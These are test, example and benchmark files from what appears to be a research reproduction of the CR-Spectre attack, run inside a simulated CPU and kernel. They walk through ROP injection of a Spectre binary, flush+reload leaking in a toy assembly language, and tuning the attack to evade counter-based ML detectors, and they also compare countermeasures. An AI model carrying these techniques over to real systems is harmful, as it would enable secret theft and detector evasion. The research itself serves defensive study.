        args = build_parser().parse_args(["fig5", "--quick",
                                          "--uarch", "ooo"])
        assert args.uarch == "ooo"

    def test_unknown_uarch_is_a_usage_error(self):
        with pytest.raises(SystemExit) as info:
            build_parser().parse_args(["fig5", "--uarch", "tomasulo9000"])
        assert info.value.code == 2


class TestExitCodes:
    """The documented contract: 0 ok, 1 fatal, 2 usage, 3 budget, 4 partial."""

    def test_usage_error_is_2(self):
        with pytest.raises(SystemExit) as info:
            main(["fig4", "--inject-faults", "gremlins=1.0"])
        assert info.value.code == 2

    def test_bad_fault_rate_is_2(self):
        with pytest.raises(SystemExit) as info:
            main(["fig4", "--inject-faults", "hpc_drop=lots"])
        assert info.value.code == 2

    def test_budget_exceeded_is_3(self, capsys):
        assert main(["attack", "--secret", "short",
                     "--budget", "5000"]) == 3
        err = capsys.readouterr().err
        assert "budget exceeded" in err
        assert "consumed" in err

    def test_partial_results_are_4(self, capsys):
        assert main(["smoke", "--seed", "3", "--inject-faults",
                     "classifier_divergence=1.0"]) == 4
        out = capsys.readouterr().out
        assert "WARNING: partial results" in out
        assert "classifier_divergence" in out

    def test_smoke_defaults_recover_to_0(self, capsys):
        assert main(["smoke"]) == 0
        out = capsys.readouterr().out
        assert "calibration: threshold=" in out
        assert "Fig. 4" in out


class TestResilienceFlags:
    def test_resume_and_fault_flags_parse(self):
        args = build_parser().parse_args([
            "fig6", "--resume", "ckpt", "--inject-faults", "hpc_drop=0.1",
            "--inject-faults", "hpc_garble=0.2", "--max-fault-fires", "3",
        ])
        assert args.resume == "ckpt"
        assert dict(args.inject_faults) == \
            {"hpc_drop": 0.1, "hpc_garble": 0.2}
        assert args.max_fault_fires == 3

    def test_resume_skips_completed_cells(self, tmp_path, capsys):
        argv = ["fig4", "--quick", "--seed", "3", "--no-ledger",
                "--resume", str(tmp_path)]
        assert main(argv) == 0
        first = capsys.readouterr().out
        assert main(argv) == 0
        second = capsys.readouterr().out
        # Served from the checkpoint, rendering the identical report —
        # a replayed cell is unremarkable, not a status-section entry.
        assert second == first
        assert main(argv + ["--list-cells"]) == 0
        assert "(4 cached, 0 pending)" in capsys.readouterr().out

    def test_same_seed_same_report(self, capsys):
        argv = ["fig4", "--quick", "--seed", "3", "--no-ledger",
                "--inject-faults", "hpc_garble=0.2"]
        assert main(argv) in (0, 4)
        first = capsys.readouterr().out
        assert main(argv) in (0, 4)
        assert first == capsys.readouterr().out
