#!/usr/bin/env python
"""Section-IV countermeasures, exercised one by one.

For each defense the same Listing-1 payload is fired at the same host;
the table shows which stage of CR-Spectre each defense kills and how.

Run:  python examples/countermeasures.py
"""

from repro.attack import (
    SpectreConfig,
    build_spectre,
    plan_execve_injection,
)
from repro.core.reporting import format_table
from repro.cpu import CpuConfig
from repro.kernel import System
from repro.workloads import get_workload

SECRET = b"TheMagicWords!!!"


def fire(host_program, plan_kwargs=None, canary_build=0, **system_kwargs):
    system = System(seed=13, target_data=SECRET, **system_kwargs)
    attack = build_spectre(
        "v1", SpectreConfig(secret_length=len(SECRET), repeats=1)
    )
    system.install_binary("/bin/host", host_program)
    system.install_binary("/bin/cr", attack)
    plan = plan_execve_injection(host_program, "/bin/host", "/bin/cr",
                                 **(plan_kwargs or {}))
    process = system.spawn("/bin/host", argv=plan.argv)
    process.run_to_completion(max_instructions=60_000_000)
    stolen = bytes(process.stdout) == SECRET
    outcome = "SECRET STOLEN" if stolen else "blocked"
    detail = (type(process.fault).__name__ if process.fault
              else f"exit={process.exit_code}")
    return outcome, detail


def main():
    workload = get_workload("basicmath")
    plain_host = workload.build(iterations=40, hosted=True)
    canary_host = workload.build(iterations=40, canary=0x51CA117E)

    rows = []
    outcome, detail = fire(plain_host)
    rows.append(["(none)", outcome, detail])

    outcome, detail = fire(plain_host,
                           cpu_config=CpuConfig(shadow_stack=True))
    rows.append(["shadow stack (return-address check)", outcome, detail])

    outcome, detail = fire(plain_host,
                           cpu_config=CpuConfig(clflush_privileged=True))
    rows.append(["privileged clflush", outcome, detail])

    outcome, detail = fire(plain_host, aslr=True)
    rows.append(["ASLR", outcome, detail])

    outcome, detail = fire(plain_host, cpu_config=CpuConfig(
        invisible_speculation=True))
    rows.append(["InvisiSpec (invisible spec. loads)", outcome, detail])

    outcome, detail = fire(plain_host, cpu_config=CpuConfig(spec_window=0))
    rows.append(["context-sensitive fencing (no window)", outcome, detail])

    outcome, detail = fire(canary_host,
                           plan_kwargs={"assume_canary": True})
    rows.append(["stack canary (value unknown)", outcome, detail])

    outcome, detail = fire(canary_host,
                           plan_kwargs={"canary_value": 0x51CA117E})
    rows.append(["stack canary (value leaked)", outcome, detail])

    print(format_table(
        ["countermeasure", "outcome", "detail"], rows,
        title="CR-Spectre vs the paper's Section-IV countermeasures",
    ))
    print("\nnotes:")
    print(" - the shadow stack kills the ROP chain at its first gadget")
    print(" - privileged clflush faults the covert channel's flush phase")
    print(" - ASLR invalidates every address baked into the payload")
    print(" - canaries abort on overflow unless the value was leaked first")
    print(" - InvisiSpec hides wrong-path fills; fencing removes the window:")
    print("   both let the ROP injection SUCCEED but starve the covert channel")


if __name__ == "__main__":
    main()
