#!/usr/bin/env python
"""ROP injection walkthrough: gadgets, chain, Listing-1 payload, execve.

Follows the paper's Section II-C step by step, printing each artefact:
the gadget catalogue found in the host image, the execve chain, the
overflow payload bytes, and the resulting in-place image swap — plus
the DEP demonstration of why plain shellcode injection cannot work.

Run:  python examples/rop_injection_demo.py
"""

from repro.attack import (
    SpectreConfig,
    build_spectre,
    plan_execve_injection,
    plan_shellcode_injection,
    scan_program,
)
from repro.kernel import System
from repro.mem.layout import AddressSpaceLayout
from repro.workloads import get_workload

SECRET = b"TheMagicWords!!!"


def hexdump(blob, width=16, limit=160):
    lines = []
    for offset in range(0, min(len(blob), limit), width):
        chunk = blob[offset:offset + width]
        hexes = " ".join(f"{b:02x}" for b in chunk)
        text = "".join(chr(b) if 32 <= b < 127 else "." for b in chunk)
        lines.append(f"  {offset:04x}  {hexes:<48}  {text}")
    if len(blob) > limit:
        lines.append(f"  ... ({len(blob) - limit} more bytes)")
    return "\n".join(lines)


def main():
    system = System(seed=7, target_data=SECRET)
    host_workload = get_workload("basicmath")
    host = host_workload.build(iterations=1 << 20, hosted=True)
    attack = build_spectre(
        "v1", SpectreConfig(secret_length=len(SECRET), repeats=1)
    )
    system.install_binary("/bin/basicmath", host)
    system.install_binary("/bin/crspectre", attack)

    # --- step 1: scan the host image for gadgets (paper: GDB search) ---
    scanner = scan_program(host, AddressSpaceLayout().text_base)
    gadgets = scanner.scan()
    print(f"gadget scan of the host image: {len(gadgets)} gadgets")
    print("a few usable ones:")
    for gadget in gadgets[:6]:
        print(f"  {gadget}")

    # --- step 2: plan chain + payload (Listing 1) -----------------------
    plan = plan_execve_injection(host, "/bin/basicmath", "/bin/crspectre")
    print()
    print(plan.describe())
    print("\npayload bytes (argv[1]):")
    print(hexdump(plan.payload.blob))

    # --- step 3: detour — DEP stops naive shellcode ---------------------
    blob, buffer_address = plan_shellcode_injection("/bin/basicmath")
    victim = system.spawn("/bin/basicmath", argv=[blob])
    victim.run_to_completion()
    print(f"\nshellcode-on-stack attempt: {victim.state.value} "
          f"({victim.fault})")
    print("=> W^X forces code *reuse*; hence the ROP chain.")

    # --- step 4: fire the real injection --------------------------------
    process = system.spawn("/bin/basicmath", argv=plan.argv)
    pid = process.pid
    print(f"\nspawned host pid={pid}, image={process.image_name!r}")
    process.run_to_completion(max_instructions=40_000_000)
    print(f"after the overflow: pid={process.pid}, "
          f"image={process.image_name!r} (execve kept the PID)")
    print(f"exfiltrated over the covert channel: {bytes(process.stdout)!r}")
    assert bytes(process.stdout) == SECRET


if __name__ == "__main__":
    main()
