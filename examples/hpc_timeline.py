#!/usr/bin/env python
"""HPC timelines: what the defender's dashboard sees.

Captures per-window counter series for a benign host, plain injected
Spectre, and dispersed CR-Spectre, rendering each as ASCII strips.  The
burst-fraction metric underneath quantifies why dispersion works: the
same total attack activity, spread over 20x the windows.

Run:  python examples/hpc_timeline.py
"""

from repro import PerturbParams, Scenario, ScenarioConfig
from repro.core.timeline import burst_fraction, render_timeline


def main():
    scenario = Scenario(ScenarioConfig(seed=55, measurement_noise=0.0))

    benign = scenario.benign_samples(48, include_extras=False)
    plain = scenario.attack_samples(48, variant="v1")
    dispersed = scenario.attack_samples(
        48, variant="v1",
        perturb=PerturbParams(delay=2500, calls_per_byte=3),
    )

    print(render_timeline(benign, title="benign host (basicmath)"))
    print()
    print(render_timeline(plain, title="plain injected Spectre v1"))
    print()
    print(render_timeline(
        dispersed,
        title="CR-Spectre (Algorithm-2 dispersion, style 'cells')",
    ))

    print("\nburst fraction (share of windows with elevated misses):")
    for label, samples in (("benign", benign), ("plain spectre", plain),
                           ("cr-spectre", dispersed)):
        print(f"  {label:14s} {burst_fraction(samples):.2f}")
    print("\nthe detector samples fixed windows: once bursts are rare,")
    print("most windows look like the host — that is the evasion.")


if __name__ == "__main__":
    main()
