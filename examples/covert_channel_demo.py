#!/usr/bin/env python
"""Covert-channel anatomy: all three Spectre variants + reload timing.

Runs each variant standalone against the same secret and shows why the
flush+reload channel works: the latency gap between a cached probe line
(the one the squashed transient load touched) and everything else.

Run:  python examples/covert_channel_demo.py
"""

from repro.attack import SpectreConfig, build_spectre
from repro.kernel import System, build_binary

SECRET = b"TheMagicWords!!!"


def run_variant(variant):
    system = System(seed=3, target_data=SECRET)
    config = SpectreConfig(secret_length=len(SECRET), repeats=1)
    system.install_binary("/bin/a", build_spectre(variant, config))
    process = system.spawn("/bin/a")
    process.run_to_completion(max_instructions=60_000_000)
    snap = process.pmu.read()
    return bytes(process.stdout), snap


def timing_histogram():
    """Measure one byte's reload latencies directly (v1 machinery)."""
    source = r"""
    main:
        ; leak secret byte 0, but record EVERY candidate's latency
        li   a2, 6
    train:
        beq  a2, zero, flush
        andi a0, a2, 7
        call victim
        addi a2, a2, -1
        jmp  train
    flush:
        la   t1, probe
        li   t2, 256
    flush_loop:
        beq  t2, zero, strike
        clflush 0(t1)
        addi t1, t1, 64
        addi t2, t2, -1
        jmp  flush_loop
    strike:
        li   a0, 0x30000000
        la   t1, array1
        sub  a0, a0, t1
        call victim
        ; reload all candidates, write latencies to lat[]
        li   t3, 0
    reload:
        slti t0, t3, 256
        beq  t0, zero, report
        la   t1, probe
        muli t2, t3, 64
        add  t1, t1, t2
        mfence
        rdcycle gp
        lw   t2, 0(t1)
        rdcycle lr
        sub  lr, lr, gp
        la   t1, lat
        shli t2, t3, 2
        add  t1, t1, t2
        sw   lr, 0(t1)
        addi t3, t3, 1
        jmp  reload
    report:
        li   a0, 1
        la   a1, lat
        li   a2, 1024
        call libc_write
        li   a0, 0
        call libc_exit
    victim:
        la   t0, array1_size
        lw   t0, 0(t0)
        bgeu a0, t0, victim_ret
        la   t1, array1
        add  t1, t1, a0
        lb   t2, 0(t1)
        muli t2, t2, 64
        la   t3, probe
        add  t3, t3, t2
        lw   t3, 0(t3)
    victim_ret:
        ret
    .data
    array1: .byte 0,1,2,3,4,5,6,7,8,9,10,11,12,13,14,15
    array1_size: .word 16
    lat: .space 1024
        .align 6
    probe: .space 16448
    """
    system = System(seed=3, target_data=SECRET)
    system.install_binary("/bin/t", build_binary("timing", source))
    process = system.spawn("/bin/t")
    process.run_to_completion(max_instructions=10_000_000)
    import struct
    latencies = struct.unpack("<256I", bytes(process.stdout))
    return latencies


def main():
    from repro.attack import calibrate

    print("=== channel calibration ===")
    result = calibrate(seed=3)
    print(f"{result.describe()}")
    print(f"channel separable: {result.separable}\n")

    print("=== reload-timing anatomy (one byte) ===")
    latencies = timing_histogram()
    hot = min(range(256), key=lambda i: latencies[i])
    cold = sorted(latencies)[128]
    print(f"fastest candidate: {hot} ({chr(hot)!r}) at "
          f"{latencies[hot]} cycles")
    print(f"median (uncached) latency: {cold} cycles")
    print(f"secret byte 0 is {SECRET[0]} ({chr(SECRET[0])!r}) — "
          f"{'MATCH' if hot == SECRET[0] else 'MISS'}")

    print("\n=== all three transient-execution variants ===")
    for variant, mechanism in (
        ("v1", "bounds-check bypass (BHT mistraining)"),
        ("rsb", "return-stack-buffer mismatch"),
        ("sbo", "speculative buffer overflow (store->ret redirect)"),
    ):
        leaked, snap = run_variant(variant)
        ok = sum(a == b for a, b in zip(leaked, SECRET))
        print(f"{variant:4s} [{mechanism}]")
        print(f"     leaked {leaked!r} ({ok}/{len(SECRET)})")
        print(f"     spec fills={snap['spec_cache_fills']}, "
              f"squashed={snap['squashed_instructions']}, "
              f"flushes={snap['clflush_instructions']}")


if __name__ == "__main__":
    main()
