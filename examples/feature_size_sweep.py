#!/usr/bin/env python
"""Feature-size sweep (Figure 4, interactive form).

Why does the paper need 4 HPC features when 1 "should" do?  This
example trains the same MLP on progressively fewer counters against one
host and prints per-size accuracy plus the confusion detail that
explains the collapse: with a single miss counter, the browser's heap
traffic is indistinguishable from flush+reload.

Run:  python examples/feature_size_sweep.py
"""

from repro import Scenario, ScenarioConfig, make_detector
from repro.hid import feature_set, samples_to_dataset
from repro.hid.features import FEATURE_SIZES


def main():
    scenario = Scenario(ScenarioConfig(host="basicmath", seed=77))
    print("profiling: benign = host + browser + editor, "
          "attack = injected Spectre v1")
    benign = scenario.benign_samples(150)
    attack = scenario.attack_samples(50, variant="v1")

    print(f"\n{'size':>4}  {'features':<58} {'accuracy':>8}  detail")
    for size in sorted(FEATURE_SIZES):
        features = feature_set(size)
        dataset = samples_to_dataset(benign, attack, features)
        train, test = dataset.split(0.7, seed=77)
        detector = make_detector("mlp", features=features, seed=77)
        detector.fit(train)
        metrics = detector.metrics_on(test)
        shown = ", ".join(features[:3]) + (", ..." if size > 3 else "")
        print(f"{size:>4}  {shown:<58} {metrics.accuracy:>7.1%}  "
              f"rec={metrics.recall:.2f} fpr={metrics.false_positive_rate:.2f}")

    print("\nat size 1 the detector sees only total_cache_misses:")
    for name, samples in (("host", benign[:50]),
                          ("browser+editor", benign[50:]),
                          ("spectre", attack)):
        values = [s.events["total_cache_misses"] for s in samples]
        print(f"  {name:<16}"
              f"misses/window: {min(values):6.1f} .. {max(values):6.1f}")
    print("the browser overlaps the attack — one counter cannot cut it.")


if __name__ == "__main__":
    main()
