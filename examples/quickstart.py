#!/usr/bin/env python
"""Quickstart: the CR-Spectre pipeline in ~60 lines.

Stages one campaign end to end:

1. boot a simulated machine holding a secret in the target segment,
2. run the benign MiBench host and profile its HPCs,
3. ROP-inject the Spectre binary into the host and steal the secret,
4. train an ML detector and watch it catch the plain attack,
5. enable Algorithm-2 dispersion and watch detection collapse.

Run:  python examples/quickstart.py
"""

from repro import PerturbParams, Scenario, ScenarioConfig, make_detector
from repro.hid import DEFAULT_FEATURES, samples_to_dataset


def main():
    scenario = Scenario(ScenarioConfig(
        host="basicmath",
        secret=b"TheMagicWords!!!",
        seed=2024,
    ))
    print(f"machine up; secret installed in the target segment "
          f"({len(scenario.config.secret)} bytes)")

    # --- 1. the attack works: ROP -> execve -> Spectre -> secret -------
    recovered, correct = scenario.verify_secret_recovery("v1")
    print(f"injected Spectre v1 recovered: {recovered!r} "
          f"({correct}/{len(scenario.config.secret)} bytes correct)")

    # --- 2. an HID detects the plain attack ----------------------------
    print("profiling benign applications and the injected attack...")
    benign = scenario.benign_samples(180)
    attack = scenario.attack_samples(60, variant="v1")
    dataset = samples_to_dataset(benign, attack, DEFAULT_FEATURES)
    train, test = dataset.split(0.7, seed=1)

    detector = make_detector("mlp", seed=1)
    detector.fit(train)
    print(f"HID (MLP, 4 HPC features) on plain Spectre: "
          f"{detector.accuracy_on(test):.0%} accuracy")

    # --- 3. CR-Spectre evades while still stealing ---------------------
    evading = PerturbParams(delay=2500, calls_per_byte=3)
    cr_samples = scenario.attack_samples(60, variant="v1",
                                         perturb=evading)
    eval_set = samples_to_dataset(benign[:20], cr_samples,
                                  DEFAULT_FEATURES)
    accuracy = detector.accuracy_on(eval_set)
    print(f"HID on CR-Spectre (Algorithm-2 dispersion): "
          f"{accuracy:.0%} accuracy "
          f"({'EVADED' if accuracy <= 0.55 else 'detected'})")

    recovered, _ = scenario.verify_secret_recovery("v1", perturb=evading)
    print(f"...and the perturbed attack still leaks: {recovered!r}")


if __name__ == "__main__":
    main()
