#!/usr/bin/env python
"""Defense-aware adaptation live: the paper's Figure 3 loop.

An online (retraining) HID guards the machine; the attacker mutates
Algorithm-2 parameters from detection feedback.  Prints the
accuracy-per-attempt series and the variant lineage — a miniature,
narrated Figure 6(b).

Run:  python examples/adaptive_evasion.py
"""

from repro import AdaptiveAttacker, Scenario, ScenarioConfig
from repro.core.experiments.common import (
    attempt_dataset,
    split_training,
    train_detectors,
)
from repro.core.experiments.fig6 import observe_self_labeled
from repro.core.reporting import sparkline

ATTEMPTS = 8


def main():
    scenario = Scenario(ScenarioConfig(seed=99))
    print("training the online HID on benign apps + plain Spectre...")
    benign = scenario.benign_samples(180)
    attack = scenario.attack_samples_mixed_variants(120)
    train, _ = split_training(benign, attack, seed=99)
    detectors = train_detectors(train, ("mlp", "lr"), seed=99, online=True)

    attacker = AdaptiveAttacker(seed=99)
    series = []
    for attempt in range(1, ATTEMPTS + 1):
        params = attacker.propose()
        samples = scenario.attack_samples_mixed_variants(
            45, perturb=params
        )
        fresh_benign = scenario.benign_samples(12, include_extras=False)
        dataset = attempt_dataset(fresh_benign, samples)

        accuracies = []
        for detector in detectors.values():
            accuracies.append(detector.accuracy_on(dataset))
            observe_self_labeled(detector, dataset)
        mean = sum(accuracies) / len(accuracies)
        record = attacker.feedback(mean)

        verdict = "EVADED " if record.evaded else "detected"
        print(f"attempt {attempt}: HID accuracy {mean:5.1%}  [{verdict}]  "
              f"params: {params.describe()}")
        series.append(100 * mean)

    print(f"\naccuracy trend: {sparkline(series, 0, 100)}")
    best_accuracy, best_params = attacker.best
    print(f"best variant reached {best_accuracy:.1%} detection "
          f"with: {best_params.describe()}")
    if attacker.evaded_yet:
        print("the attacker crossed the paper's 55% evasion threshold.")


if __name__ == "__main__":
    main()
