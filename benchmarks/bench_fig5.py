"""Benchmark regenerating Figure 5: offline HID, Spectre vs CR-Spectre.

Paper shape: (a) all four static detectors hold 86-96 % against plain
Spectre over 10 attempts; (b) one pre-tuned perturbation variant drags
them below the 55 % evasion threshold.
"""

import pytest

from benchmarks.conftest import publish
from repro.core.experiments import run_fig5


@pytest.fixture(scope="module")
def fig5_result():
    return run_fig5(seed=42, attempts=10,
                    training_benign=240, training_attack=240,
                    attempt_samples=60, attempt_benign=20)


def test_fig5_regeneration(benchmark, fig5_result):
    result = benchmark.pedantic(lambda: fig5_result, rounds=1, iterations=1)
    publish("fig5", result.format())
    benchmark.extra_info["plain_mean"] = result.mean_accuracy("spectre")
    benchmark.extra_info["cr_mean"] = result.mean_accuracy("crspectre")

    assert result.mean_accuracy("spectre") > 0.85
    assert result.mean_accuracy("crspectre") < 0.55

    # (a): every static detector holds against plain Spectre throughout
    for name, series in result.spectre.items():
        assert min(series) > 0.80, (name, series)
    # (b): the single pre-tuned variant keeps every detector degraded
    # (the offline HID never relearns)
    for name, series in result.crspectre.items():
        assert sum(series) / len(series) < 0.60, (name, series)
    # the attacker's offline pre-tuning search actually converged
    assert min(acc for _, acc in result.search_history) <= 0.55
