"""Benchmark regenerating Figure 6: online (retraining) HID.

Paper shape: (a) plain Spectre stays detected (leveled, smoother than
5a); (b) the dynamic, parameter-mutating CR-Spectre degrades detection
below 55 % with partial recoveries after the defender relearns, with
minima far below (paper: 16 %).
"""

import pytest

from benchmarks.conftest import publish
from repro.core.experiments import run_fig6


@pytest.fixture(scope="module")
def fig6_result():
    return run_fig6(seed=42, attempts=10,
                    training_benign=240, training_attack=240,
                    attempt_samples=60, attempt_benign=15)


def test_fig6_regeneration(benchmark, fig6_result):
    result = benchmark.pedantic(lambda: fig6_result, rounds=1, iterations=1)
    publish("fig6", result.format())
    benchmark.extra_info["min_cr_accuracy"] = result.min_accuracy()

    # (a): retraining keeps plain Spectre detected throughout.
    for name, series in result.spectre.items():
        assert min(series) > 0.80, (name, series)

    # (b): attempt 1 (no tuning yet) is detected; later attempts dip
    # below the evasion threshold — the paper's degrading trend.
    for series in result.crspectre.values():
        assert series[0] > 0.80
    all_values = [v for s in result.crspectre.values() for v in s]
    assert min(all_values) < 0.55
    # the attacker crossed the evasion threshold at least once
    assert any(r.evaded for r in result.attacker_history)
    # paper's minimum is 16 %: ours lands in the same regime
    assert result.min_accuracy() < 0.45
