"""Benchmark regenerating Figure 4: HID accuracy vs feature size.

Paper shape to reproduce: >80 % for feature sizes >= 2 on every host,
a collapse at size 1, and >90 % at the paper's chosen size 4.
"""

import pytest

from benchmarks.conftest import publish
from repro.core.experiments import run_fig4


@pytest.fixture(scope="module")
def fig4_result():
    return run_fig4(seed=42, benign_per_host=150, attack_per_variant=50)


def test_fig4_regeneration(benchmark, fig4_result):
    result = benchmark.pedantic(
        lambda: fig4_result, rounds=1, iterations=1
    )
    publish("fig4", result.format())
    benchmark.extra_info["accuracy_at_4_features"] = result.accuracy_at(4)
    benchmark.extra_info["accuracy_at_1_feature"] = result.accuracy_at(1)

    # Paper shape assertions.
    assert result.accuracy_at(4) > 0.90, "size-4 accuracy must be >90%"
    assert result.accuracy_at(8) > 0.80
    assert result.accuracy_at(16) > 0.80
    assert result.accuracy_at(1) < result.accuracy_at(4), (
        "one feature must be markedly worse (paper: 'inefficient')"
    )
    # every individual host is detectable at the chosen size
    for host in result.hosts:
        assert result.accuracies[host][4] > 0.85, host
