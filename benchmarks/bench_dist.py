"""Benchmark the distributed tier: protocol overhead and requeue cost.

Times a reduced Figure-5 sweep serially, on the warm pool, and against
an in-process dist deployment (a real ``DistServer`` on an asyncio
thread, real workers over real sockets) — clean, and then with ~10%
transport loss (seeded ``frame_drop`` chaos on every worker, so
dropped result frames force lease expiry and requeue).  All four runs
must produce byte-identical reports; the recorded numbers price what
the fault tolerance costs.

Honesty rules for the recorded numbers:

* **In-process dist workers share the GIL.**  The dist rows measure
  wire-protocol + lease bookkeeping overhead against the same compute,
  *not* parallel speedup — that is exactly what makes them comparable
  on a 1-core CI runner.  Real deployments run ``repro worker``
  processes; their speedup story is the pool benchmark's.
* **Requeue overhead is a ratio of dist to dist**, lossy wall over
  clean wall on the same deployment shape, so protocol cost cancels
  and the number isolates what re-leasing and recomputing lost work
  costs under ~10% loss.
"""

import io
import os
import time

import pytest

from benchmarks.conftest import publish
from benchmarks.schema import write_bench_json
from repro.core.experiments import run_fig5
from repro.core.experiments.fig5 import plan_fig5
from repro.exec import warmup
from repro.exec.dist import DistBackend

from tests.exec.test_dist import _Cluster

#: Reduced fig5 (the pool benchmark's knob set, quarter-scale sampling).
KNOBS = dict(
    seed=42, attempts=6, detector_names=("lr", "nn"),
    training_benign=120, training_attack=120,
    attempt_samples=30, attempt_benign=10,
)

#: Transport-loss rate for the lossy run: ~10% of worker frames
#: (results included) vanish in flight.
LOSS_RATE = 0.1

WORKERS = 2


def _timed(fn):
    started = time.perf_counter()
    result = fn()
    return result, time.perf_counter() - started


def _dist_run(loss_rate=0.0):
    cluster = _Cluster(lease_timeout=0.5)
    chaos = ({"seed": KNOBS["seed"], "frame_drop": loss_rate}
             if loss_rate else None)
    for index in range(WORKERS):
        cluster.start_worker(f"w{index}", chaos=chaos)
    backend = DistBackend(cluster.address, seed=KNOBS["seed"],
                          stream=io.StringIO())
    try:
        result, elapsed = _timed(
            lambda: run_fig5(backend=backend, **KNOBS)
        )
    finally:
        backend.close()
        cluster.stop()
    return result, elapsed, dict(cluster.server.stats)


@pytest.fixture(scope="module")
def dist_timings():
    runs = {}
    serial, runs["serial"] = _timed(lambda: run_fig5(**KNOBS))
    warmup_s, _ = warmup(WORKERS)
    pool, runs["pool"] = _timed(lambda: run_fig5(jobs=WORKERS, **KNOBS))
    dist, runs["dist"], clean_stats = _dist_run()
    lossy, runs["dist_lossy"], lossy_stats = _dist_run(LOSS_RATE)
    reports = {"serial": serial.format(), "pool": pool.format(),
               "dist": dist.format(), "dist_lossy": lossy.format()}
    return reports, runs, warmup_s, clean_stats, lossy_stats


def test_dist_baseline(benchmark, dist_timings):
    cells = len(plan_fig5(**KNOBS))
    reports, runs, warmup_s, clean_stats, lossy_stats = \
        benchmark.pedantic(lambda: dist_timings, rounds=1, iterations=1)

    # Determinism is the contract; the wall clock is the baseline.
    for mode in ("pool", "dist", "dist_lossy"):
        assert reports[mode] == reports["serial"], f"{mode} diverged"
    # The lossy run's chaos was real: work actually requeued.
    assert lossy_stats["requeues"] > 0

    overhead = runs["dist_lossy"] / runs["dist"]
    write_bench_json(
        "dist",
        knobs={k: list(v) if isinstance(v, tuple) else v
               for k, v in KNOBS.items()},
        runs={
            mode: {
                "wall_s": round(runs[mode], 3),
                "cells_per_s": round(cells / runs[mode], 3),
            }
            for mode in ("serial", "pool", "dist")
        } | {
            "dist_lossy": {
                "wall_s": round(runs["dist_lossy"], 3),
                "cells_per_s": round(cells / runs["dist_lossy"], 3),
                "loss_rate": LOSS_RATE,
                "requeues": lossy_stats["requeues"],
            },
        },
        experiment="fig5-reduced",
        cells=cells,
        workers=WORKERS,
        pool_warmup_s=round(warmup_s, 3),
        clean_requeues=clean_stats["requeues"],
        requeue_overhead_x=round(overhead, 3),
        identical_output=True,
    )

    lines = [f"dist baseline — reduced fig5, {cells} cells, "
             f"{WORKERS} workers, {os.cpu_count()} CPU(s)"]
    for mode in ("serial", "pool", "dist", "dist_lossy"):
        lines.append(f"  {mode:<11}: {runs[mode]:6.2f}s "
                     f"({cells / runs[mode]:.2f} cells/s)")
    lines.append(f"  requeue overhead at {LOSS_RATE:.0%} frame loss: "
                 f"{overhead:.2f}x ({lossy_stats['requeues']} "
                 f"requeue(s))")
    publish("dist", "\n".join(lines))

    benchmark.extra_info["cpu_count"] = os.cpu_count()
    benchmark.extra_info["requeue_overhead_x"] = round(overhead, 3)
    benchmark.extra_info["lossy_requeues"] = lossy_stats["requeues"]
