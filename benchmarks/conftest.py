"""Benchmark harness helpers.

Every benchmark regenerates one of the paper's tables/figures, prints
the same rows/series the paper reports, and archives the text under
``benchmarks/output/`` so results survive pytest's capture.
"""

import pathlib

from repro.atomicio import atomic_write_text

OUTPUT_DIR = pathlib.Path(__file__).parent / "output"


def publish(name, text):
    """Print a regenerated table/figure and archive it to disk.

    The archive write is atomic (temp file + rename), so a benchmark
    killed mid-publish never leaves a truncated artefact behind.
    """
    OUTPUT_DIR.mkdir(exist_ok=True)
    atomic_write_text(OUTPUT_DIR / f"{name}.txt", text + "\n")
    print(f"\n{'=' * 72}\n{text}\n{'=' * 72}")
