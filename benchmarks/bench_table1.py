"""Benchmark regenerating Table I: IPC overhead of co-located CR-Spectre.

Paper shape: overheads are negligible (fractions of a percent to ~1 %),
and the online-type HID costs slightly more than the offline type
(paper: 1.1 % vs 0.6 % on average).
"""

import pytest

from benchmarks.conftest import publish
from repro.core.experiments import run_table1


@pytest.fixture(scope="module")
def table1_result():
    return run_table1(seed=42, repetitions=2)


def test_table1_regeneration(benchmark, table1_result):
    result = benchmark.pedantic(
        lambda: table1_result, rounds=1, iterations=1
    )
    publish("table1", result.format())
    offline, online = result.average_overheads()
    benchmark.extra_info["avg_offline_overhead"] = offline
    benchmark.extra_info["avg_online_overhead"] = online

    # Paper headline: negligible overhead, online > offline.
    assert 0.0 < offline < 0.03, f"offline overhead {offline:.2%}"
    assert 0.0 < online < 0.05, f"online overhead {online:.2%}"
    assert online > offline

    # per-row sanity: overheads small, IPCs plausible
    for row in result.rows:
        assert row.original_ipc > 0.2, row.benchmark
        assert row.offline_overhead < 0.05, row.benchmark
        assert row.online_overhead < 0.08, row.benchmark
    # relative IPC character matches Table I: bitcount fastest,
    # SHA slower than bitcount
    by_name = {row.benchmark: row.original_ipc for row in result.rows}
    assert by_name["Bitcount 50M"] > by_name["Math"]
    assert by_name["Bitcount 50M"] > by_name["SHA 1"]
