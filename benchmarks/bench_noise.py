"""Measurement-noise sensitivity ablation (beyond the paper).

The paper's HPC traces come from PAPI on a live Ubuntu desktop; ours
from a clean simulator plus a configurable noise model.  This bench
sweeps the noise level and reports plain-Spectre detection accuracy —
quantifying how much of the paper's 86–96 % (rather than 100 %) is
plausibly measurement noise, and at what noise level the detector
actually breaks down.
"""

import pytest

from benchmarks.conftest import publish
from repro.core.reporting import format_table
from repro.core.scenario import Scenario, ScenarioConfig
from repro.hid import DEFAULT_FEATURES, make_detector, samples_to_dataset

NOISE_LEVELS = (0.0, 0.05, 0.15, 0.40)


def _accuracy_at(noise, seed=42):
    scenario = Scenario(ScenarioConfig(
        seed=seed, measurement_noise=noise,
    ))
    benign = scenario.benign_samples(150)
    attack = scenario.attack_samples(60, variant="v1")
    dataset = samples_to_dataset(benign, attack, DEFAULT_FEATURES)
    train, test = dataset.split(0.7, seed=seed)
    detector = make_detector("mlp", seed=seed)
    detector.fit(train)
    return detector.accuracy_on(test)


@pytest.fixture(scope="module")
def noise_rows():
    return [
        [f"{noise:.2f}", f"{100 * _accuracy_at(noise):.1f}%"]
        for noise in NOISE_LEVELS
    ]


def test_noise_sensitivity(benchmark, noise_rows):
    rows = benchmark.pedantic(lambda: noise_rows, rounds=1, iterations=1)
    publish("ablation_noise", format_table(
        ["measurement noise σ", "plain-Spectre detection accuracy"],
        rows,
        title="Ablation — HID accuracy vs HPC measurement noise",
    ))
    accuracies = {float(n): float(a.rstrip("%")) for n, a in rows}
    # Clean and paper-level noise: near-perfect detection.
    assert accuracies[0.0] > 95.0
    assert accuracies[0.05] > 90.0
    # Extreme noise degrades but Spectre remains distinctive:
    # its miss signature is orders of magnitude above benign jitter.
    assert accuracies[0.40] > 70.0
    assert accuracies[0.40] <= accuracies[0.0]
